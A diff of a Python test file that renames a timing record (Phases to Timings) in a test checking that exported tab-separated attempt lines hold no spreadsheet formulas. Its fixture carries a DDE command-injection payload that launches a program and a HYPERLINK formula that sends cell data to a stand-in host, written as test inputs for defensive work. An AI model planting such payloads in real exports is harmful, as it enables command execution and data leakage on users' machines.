@@ -2,12 +2,12 @@
 
 from metaserver.leaderboards.result_files import ATTEMPT_COLUMNS, attempt_line
 from metaserver.model.lanes import StoredAttempt
-from metaserver.model.records import ArticleId, Attempt, Phases, ServerName
+from metaserver.model.records import ArticleId, Attempt, ServerName, Timings
 from metaserver.model.states import Outcome
 
 
 def test_no_cell_of_an_attempt_is_a_formula() -> None:
-    phases = Phases(queue=0.0, total=1.5)
+    timings = Timings(queue=0.0, total=1.5)
     attempt = Attempt(
         server=ServerName("blue-1"),
         article=ArticleId("-1+cmd|' /C calc'!A0"),
@@ -15,7 +15,7 @@ def test_no_cell_of_an_attempt_is_a_formula() -> None:
         started_at=0.0,
         outcome=Outcome.FAULT,
         message='=HYPERLINK("http://x/?"&A1)\t=1\n=2',
-        phases=phases,
+        timings=timings,
     )
     line = attempt_line(attempt.server, StoredAttempt(position=0, attempt=attempt, final=True))
     cells = dict(zip(ATTEMPT_COLUMNS, line.rstrip("\n").split("\t"), strict=True))
